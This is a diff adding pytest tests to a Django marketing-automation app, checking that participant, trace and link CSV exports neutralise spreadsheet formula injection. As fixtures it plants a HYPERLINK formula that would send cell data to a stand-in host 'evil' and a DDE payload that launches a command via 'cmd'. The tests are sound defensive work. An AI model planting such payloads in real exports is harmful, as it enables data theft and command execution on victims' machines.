@@ -6,6 +6,8 @@ import io
 import pytest
 
 from drumbeat.automation import campaign_templates, services
+from drumbeat.automation.models import Activity, Campaign, Trace
+from drumbeat.contacts.models import Contact
 from drumbeat.mailing.models import Click, Link
 
 pytestmark = [pytest.mark.django_db, pytest.mark.postgres]
@@ -110,3 +112,39 @@ def test_the_participants_of_a_figure_are_those_the_card_counts(marketer_client,
     url = f"/reporting/participants/?campaign={running.pk}&activity={email.pk}&event=sent"
     html = marketer_client.get(url).content.decode()
     assert "Person 00" in html and "1–1 of 1" in html
+
+
+# --- formula injection: every export neutralises formula-like cells (lib/csvsafe.py) -----------
+
+HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'
+
+
+def test_the_participant_export_neutralises_formulas(marketer_client, running, contacts):
+    Contact.objects.filter(pk=contacts[0].pk).update(name=HYPERLINK)
+    data = rows(marketer_client.get(f"/reporting/participants/?campaign={running.pk}&format=csv"))
+    by_record = {row[2]: row for row in data[1:]}
+    assert by_record[str(contacts[0].pk)][3] == "'" + HYPERLINK
+    assert by_record[str(contacts[1].pk)][3] == "Person 01"  # a normal value is untouched
+
+
+def test_the_trace_export_neutralises_formulas(marketer_client, running):
+    Campaign.objects.filter(pk=running.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    activity = running.activities.get(trigger="begin")
+    Activity.objects.filter(pk=activity.pk).update(name="-2+3")
+    Trace.objects.filter(activity=activity).update(reason="+danger")
+    data = rows(marketer_client.get(f"/reporting/traces/?campaign={running.pk}&format=csv"))
+    header, first = data[0], data[1]
+    cells = dict(zip(header, first, strict=True))
+    assert cells["campaign"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert cells["activity"] == "'-2+3" and cells["reason"] == "'+danger"
+    assert cells["state"] == "scheduled" and cells["id"].isdigit()
+
+
+def test_the_link_export_neutralises_formulas(marketer_client, running):
+    Link.objects.create(url=HYPERLINK, title="\t=1+1", code="evil1", campaign_id=running.pk)
+    Link.objects.create(url="https://example.com/ok", title="Offer", code="ok1")
+    data = rows(marketer_client.get("/reporting/links/?format=csv"))
+    cells = {row[0]: row for row in data[1:]}
+    assert cells["'" + HYPERLINK][1] == "'\t=1+1"
+    assert cells["https://example.com/ok"][:2] == ["https://example.com/ok", "Offer"]
+    assert cells["https://example.com/ok"][-2:] == ["0", "0"]
